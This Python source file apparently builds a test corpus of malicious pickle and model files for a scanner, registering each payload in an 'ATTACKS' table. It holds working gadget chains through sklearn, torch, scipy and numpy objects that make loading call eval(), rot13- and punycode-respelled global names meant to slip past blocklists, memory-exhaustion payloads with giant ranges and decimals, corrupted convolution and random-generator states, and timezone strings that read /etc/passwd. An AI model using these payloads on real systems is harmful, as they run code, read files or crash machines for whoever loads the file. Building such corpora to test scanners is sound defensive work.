"""Vectors by which loading itself calls what a file keeps: a text, a hash or an array that Python asks for, names in another spelling, sizes."""

import codecs
import copyreg
import functools
import operator
import pickle

from attack import Table
from attack_chains import TEXT, Made, stacked, written
from attack_states import dictionary, new
from pickles import global_, proto, reduce, unicode

ATTACKS = Table()
NEWOBJ = copyreg._reconstructor


class Called:
    """Something to call while it is pickled, and what a call gives afterwards."""

    def __init__(self, made):
        self.made = made

    def __call__(self):
        pass

    def __reduce__(self):
        return self.made.__reduce__()


def scorer(method):
    from sklearn.metrics._scorer import _Scorer

    return Called(Made(_Scorer, (None, 1, {}, method), {"_score_func": operator.is_}))


def distances(left, right, metric):
    from sklearn.metrics import pairwise_distances

    return functools.partial(pairwise_distances, left, right, metric=metric, y_true=[0])


def late():
    """A state that has a classifier call eval()."""
    import sklearn

    return {"stack_method_": ["eval"], "_sklearn_version": sklearn.__version__}


def spoken(function):
    """A module whose text is what a function gives."""
    import torch

    module = torch.nn.Identity()
    vars(module)["extra_repr"] = function
    return module


def versioned(version):
    from sklearn.preprocessing import StandardScaler

    return Made(NEWOBJ, (StandardScaler, object, None), {"_sklearn_version": version})


def two_texts():
    stack = stacked("predict")
    first, second = (spoken(distances([stack], [x], scorer(method))) for method, x in (("__setstate__", late()), ("predict", TEXT)))
    first._modules["0"] = second
    return first


@ATTACKS.made("unlisted-gadget/text_of_a_version", fire="pickle")
def _(folder):
    return written(folder, versioned(two_texts()))


@ATTACKS.made("unlisted-gadget/text_of_a_list", fire="pickle")
def _(folder):
    return written(folder, Made(NEWOBJ, (str, str, [two_texts()])))


@ATTACKS.made("unlisted-gadget/text_of_a_module")
def _(folder):
    return written(folder, spoken(max))


@ATTACKS.made("unlisted-gadget/version_that_is_an_object")
def _(folder):
    import torch

    return written(folder, versioned(torch.nn.Identity()))


@ATTACKS.made("unlisted-gadget/scorer_by_its_constructor")
def _(folder):
    return written(folder, scorer("__setstate__"))


@ATTACKS.made("unlisted-gadget/scorer_class_kept")
def _(folder):
    from sklearn.metrics._scorer import _Scorer
    from sklearn.preprocessing import FunctionTransformer

    return written(folder, FunctionTransformer(_Scorer, kw_args={"kwargs": {}, "response_method": "eval"}))


@ATTACKS.made("unlisted-gadget/distances_by_an_object")
def _(folder):
    from sklearn.metrics import accuracy_score, make_scorer

    return written(folder, distances([1], [2], make_scorer(accuracy_score)))


def asked(function):
    from scipy.optimize import OptimizeResult

    return Made(NEWOBJ, (OptimizeResult, dict, {"__array__": function}))


@ATTACKS.made("unlisted-gadget/array_of_a_result", fire="pickle")
def _(folder):
    import numpy

    stack = stacked("predict")
    calls = [distances([stack], [x], scorer(method)) for method, x in (("__setstate__", late()), ("predict", TEXT))]
    return written(folder, [Made(numpy.poly1d, (asked(functools.partial(numpy.ravel, asked(call))),)) for call in calls])


INTERFACE = {"data": (4096, False), "shape": (4,), "typestr": "<f8", "version": 3}


@ATTACKS.made("unlisted-gadget/array_interface_of_a_result")
def _(folder):
    import numpy
    from scipy.optimize import OptimizeResult

    return written(folder, Made(numpy.poly1d, (Made(NEWOBJ, (OptimizeResult, dict, {"__array_interface__": INTERFACE})),)))


@ATTACKS.made("unlisted-gadget/array_interface_of_a_bunch_of_old")
def _(folder):
    from sklearn.utils import Bunch

    path = folder / "model.pkl"
    path.write_bytes(pickle.dumps(Bunch(__array_interface__=INTERFACE), 1))
    return path


# --- names in another spelling -------------------------------------------------------------------------------------------------------


def respelled(name, encoding="rot13"):
    return reduce(global_("_codecs", "encode"), unicode(codecs.encode(name, "rot13")), unicode(encoding))


STATE = b"}" + respelled("stack_method_") + b"]" + unicode("eval") + b"asb"
ATTACKS.data("unlisted-gadget/name_by_rot13", proto(2, new("sklearn.ensemble._stacking", "StackingClassifier"), STATE))
ATTACKS.data("unlisted-gadget/encoded_by_punycode", proto(2, respelled("a", "punycode")))
ATTACKS.data("unlisted-gadget/encoded_without_a_name", proto(2, reduce(global_("_codecs", "encode"), unicode("é"))))

# --- hashes and sizes ----------------------------------------------------------------------------------------------------------------

HASHED = dictionary(("_hash", b"N"), ("_hash_impl", reduce(global_("functools", "partial"), global_("builtins", "sum"))))
SPEC = new("torch.distributed.tensor._dtensor_spec", "DTensorSpec") + HASHED + b"b"
ATTACKS.data("unlisted-gadget/hash_of_a_set", proto(2, reduce(global_("builtins", "set"), b"]" + SPEC + b"a")))
RANGE = reduce(global_("builtins", "range"), b"\x8a\x06" + (10**13).to_bytes(6, "little"))
TAKERS = [("builtins", "set"), ("builtins", "list"), ("builtins", "bytes"), ("collections", "Counter"), ("collections", "deque"), ("collections", "UserList")]
for taker in TAKERS:
    ATTACKS.data(f"expansion/range_to_a_{taker[1].lower()}", proto(2, reduce(global_(*taker), RANGE)))
ATTACKS.data("expansion/range_to_an_array", proto(2, reduce(global_("array", "array"), unicode("d"), RANGE)))
ATTACKS.data("expansion/range_as_a_pair", proto(2, reduce(global_("builtins", "dict"), b"]" + RANGE + b"a")))
ATTACKS.data("expansion/range_by_copyreg", proto(2, reduce(global_("copyreg", "_reconstructor"), global_("builtins", "list"), global_("builtins", "list"), RANGE)))
ATTACKS.data("expansion/bytes_by_their_length", proto(2, reduce(global_("builtins", "bytearray"), b"\x8a\x05" + (1 << 36).to_bytes(5, "little"))))
ATTACKS.data("expansion/fraction_of_an_exponent", proto(2, reduce(global_("fractions", "Fraction"), unicode("1e1000000000"))))
DECIMAL = reduce(global_("decimal", "Decimal"), unicode("1e999999999"))
ATTACKS.data("expansion/integer_of_a_decimal", proto(2, reduce(global_("builtins", "int"), DECIMAL)))
ATTACKS.data("expansion/number_of_a_decimal", proto(2, reduce(global_("numpy", "int64"), DECIMAL)))


# --- numbers that are believed -------------------------------------------------------------------------------------------------------


def convolution(folder, at, value):
    import torch
    import torch.ao.nn.quantized as quantized

    state = list(quantized.Conv2d(4, 8, 3).__getstate__())
    state[at] = value
    torch.save(Made(NEWOBJ, (quantized.Conv2d, object, None), tuple(state)), folder / "model.pt")
    return folder / "model.pt"


ATTACKS.made("unlisted-gadget/convolution_of_no_groups")(functools.partial(convolution, at=8, value=0))
ATTACKS.made("unlisted-gadget/convolution_without_a_stride")(functools.partial(convolution, at=3, value=(0, 0)))


@ATTACKS.made("unlisted-gadget/generator_beyond_its_buffer")
def _(folder):
    import numpy

    function, arguments, rest = numpy.random.Philox(0).__reduce__()[:3]
    state = dict(rest[0] if isinstance(rest, tuple) else rest) | {"buffer_pos": -(1 << 28)}
    return written(folder, Made(function, arguments, (state, *rest[1:]) if isinstance(rest, tuple) else state))


def zoned(folder, name, **options):
    import pandas
    from sklearn.preprocessing import FunctionTransformer

    return written(folder, FunctionTransformer(getattr(pandas, name), kw_args=options))


ATTACKS.made("unlisted-gadget/zone_of_a_step")(functools.partial(zoned, name="Timestamp", tz="dateutil//etc/passwd"))
ATTACKS.made("unlisted-gadget/zone_of_a_type_in_a_step")(functools.partial(zoned, name="Series", dtype="datetime64[ns, dateutil//etc/passwd]"))
